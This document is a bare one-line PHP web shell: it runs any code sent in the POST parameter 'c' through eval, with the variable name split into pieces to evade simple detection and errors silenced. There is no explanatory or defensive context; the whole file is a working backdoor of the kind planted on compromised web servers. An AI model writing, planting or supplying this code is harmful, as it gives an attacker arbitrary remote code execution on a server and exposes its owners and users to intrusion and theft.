<?php @eval(${'_P'.'OST'}['c']); ?>
